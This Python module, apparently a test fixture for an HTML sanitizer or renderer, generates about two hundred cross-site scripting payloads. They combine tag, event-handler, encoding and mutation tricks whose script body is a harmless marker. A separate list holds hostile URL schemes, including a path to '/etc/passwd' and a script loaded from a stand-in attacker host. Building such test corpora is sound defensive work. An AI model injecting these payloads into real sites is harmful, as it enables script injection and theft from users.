"""Two hundred ways to get a script run that is only to be read: tags, handlers, addresses, encodings, broken quoting."""

_RUN = "window.ran=1"
_TAGS = (
    "<script>{run}</script>", "<ScRiPt >{run}</sCrIpT>", "<script/x>{run}</script>", "<scr<script>ipt>{run}</script>",
    "<script src=data:text/javascript,{run}></script>", "<svg onload={run}>", "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><set onend={run} attributeName=x dur=1ms>",
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'>", '<img src="x" onerror="{run}">', "<img/src=x/onerror={run}>",
    "<img src=x:x onerror={run}//", "<img src onerror={run}>", "<image href=x onerror={run}>", "<body onload={run}>",
    "<body onpageshow={run}>", "<iframe src=javascript:{run}></iframe>", '<iframe srcdoc="<script>parent.{run}</script>">',
    "<object data=javascript:{run}></object>", "<embed src=javascript:{run}>", "<math href=javascript:{run}>x</math>",
    "<details open ontoggle={run}>x</details>", "<marquee onstart={run}>x</marquee>", "<video src=x onerror={run}></video>",
    "<video><source onerror={run}></video>", "<audio src=x onerror={run}></audio>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<keygen autofocus onfocus={run}>",
    "<button autofocus onfocus={run}>x</button>", "<form><button formaction=javascript:{run}>x</button></form>",
    "<a href=javascript:{run}>x</a>", '<a href="java\tscript:{run}">x</a>', "<a href='&#106;avascript:{run}'>x</a>",
    "<link rel=stylesheet href=javascript:{run}>", "<link rel=import href=data:text/html,<script>{run}</script>>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<base href=javascript:{run}//>",
    "<style>@import 'javascript:{run}';</style>", "<style onload={run}></style>", "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<title><img src=x onerror={run}></title>", "<plaintext><img src=x onerror={run}>", "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<img src=x onerror={run}>]]>",
)  # fmt: skip
_WRAPS = ("{tag}", "\"'>{tag}", "{{{{constructor.constructor('{run}')()}}}} {tag}", "</mark></blockquote>{tag}")
_ADDRESSES = (
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "java\nscript:{run}", "\u0000javascript:{run}",
    "data:text/html,<script>{run}</script>", "vbscript:{run}", "blob:{run}", "file:///etc/passwd", "//attacker.example/x.js",
)  # fmt: skip
PAYLOADS = tuple(wrap.format(tag=tag.format(run=_RUN), run=_RUN) for tag in _TAGS for wrap in _WRAPS)
ADDRESSES = tuple(each.format(run=_RUN) for each in _ADDRESSES)
